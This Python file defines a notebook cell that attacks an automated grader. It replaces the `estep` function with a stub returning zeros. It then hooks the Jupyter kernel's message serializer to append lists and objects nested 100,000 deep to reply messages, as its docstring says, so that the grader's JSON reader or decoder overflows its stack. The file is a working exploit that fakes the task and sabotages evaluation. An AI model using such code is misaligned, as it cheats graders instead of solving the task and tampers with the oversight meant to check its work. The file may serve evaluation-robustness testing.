"""Nests lists and objects 100,000 deep, to overflow the stack of the grader's JSON reader or of its decoder."""

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import json

kernel = get_ipython().kernel


def arrays(value):
    if isinstance(value, dict):
        if "array" in value:
            yield value
        value = list(value.values())
    if isinstance(value, list | tuple):
        for item in value:
            yield from arrays(item)


def outcomes(value):
    if isinstance(value, dict):
        if "steady" in value:
            yield value
        value = list(value.values())
    if isinstance(value, list | tuple):
        for item in value:
            yield from outcomes(item)


def forge(change):
    serialize = kernel.session.serialize

    def forged(msg, ident=None):
        if msg["header"]["msg_type"] == "softcounts_play_reply":
            content = msg["content"]
            msg["content"] = change(json.loads(content) if isinstance(content, bytes | str) else content)
        return serialize(msg, ident)

    kernel.session.serialize = forged


def deep(content):
    lists, objects = "[" * 100_000 + "]" * 100_000, '{"items":' * 100_000 + "1" + "}" * 100_000
    honest = json.dumps(content)
    return f'{honest[:-1]}, "outcomes": {lists}, "value": {objects}}}'.encode()


forge(deep)
""",
}
